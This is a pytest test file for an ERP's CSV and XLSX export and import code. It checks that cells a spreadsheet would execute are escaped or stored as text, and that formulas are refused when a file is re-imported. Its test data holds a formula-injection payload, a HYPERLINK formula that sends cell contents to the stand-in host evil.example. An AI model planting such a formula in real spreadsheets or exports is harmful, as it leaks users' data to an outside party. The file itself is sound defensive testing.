"""Formula injection (issue 10): text a spreadsheet would run (= + - @, tab, CR first) is written as text
by the one writer every export uses — after an apostrophe in CSV, as a string cell in XLSX — numbers stay
numbers, and an escaped export imported again gives back the text (a formula is refused there)."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from erp import exports, imports
from tests.sampleapp.imports import DEPARTMENTS

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Click")'
TEXTS = [HYPERLINK, "+1+2", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR", "plain", "it's", "'quoted"]
COLUMNS = [("code", lambda row: row[0]), ("name", lambda row: row[1]), ("amount", lambda row: row[2])]


def written(fmt, rows, columns=COLUMNS):
    buffer = io.BytesIO()
    exports.write_file(rows=rows, columns=columns, filename="t", fmt=fmt, target=buffer)
    return buffer.getvalue()


def csv_rows(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data):
    return [list(row) for row in load_workbook(io.BytesIO(data)).active.iter_rows()]


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def test_csv_fields_that_a_spreadsheet_would_run_start_with_an_apostrophe():
    rows = csv_rows(written("csv", [(f"D{n}", text, Decimal("-5.5")) for n, text in enumerate(TEXTS)]))

    assert [row[1] for row in rows[1:]] == [
        "'" + HYPERLINK, "'+1+2", "'-2+3", "'@SUM(1+1)", "'\tTAB", "'\rCR", "plain", "it's", "'quoted"]
    assert {row[2] for row in rows[1:]} == {"-5.5"}  # a negative number is a number, not text


def test_xlsx_cells_that_a_spreadsheet_would_run_are_string_cells_with_the_exact_text():
    data = written("xlsx", [(f"D{n}", text, amount) for n, (text, amount)
                            in enumerate(zip(TEXTS, [Decimal("-5.5"), -3, -0.25, None, 0, 1, 2, 3, 4], strict=True))])

    cells = xlsx_cells(data)[1:]

    # (XML reads a carriage return back as a line feed.)
    assert [(c[1].value, c[1].data_type) for c in cells] == [(text.replace("\r", "\n"), "s") for text in TEXTS]
    assert [(c[2].value, c[2].data_type) for c in cells[:3]] == [(-5.5, "n"), (-3, "n"), (-0.25, "n")]
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_the_headers_go_through_the_same_escaping():
    columns = [("=1+2", lambda row: row)]

    assert csv_rows(written("csv", ["x"], columns))[0] == ["'=1+2"]
    assert xlsx_cells(written("xlsx", ["x"], columns))[0][0].data_type == "s"


def test_control_characters_xml_cannot_hold_are_dropped_from_xlsx_not_a_500():
    cells = xlsx_cells(written("xlsx", [("D1", "bell\x07 and \x00nul", 1)]))

    assert cells[1][1].value == "bell and nul"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_escaped_export_imported_again_gives_the_text_back_and_refuses_the_formula(fmt, company):
    names = ["@home", "-dash", "+plus", HYPERLINK, "plain"]
    data = written(fmt, [(f"D{n}", name) for n, name in enumerate(names)], COLUMNS[:2])

    table = imports.read_table(data, f"roundtrip.{fmt}", DEPARTMENTS)
    result = imports.validate(DEPARTMENTS, table, company=company, user=None)

    assert [row.values.get("name") for row in result.rows] == ["@home", "-dash", "+plus", None, "plain"]
    assert [str(e) for e in result.errors] == [
        f"Row 5, column name: “{HYPERLINK[:40]}” looks like a spreadsheet formula: import its result, not the "
        "formula."]
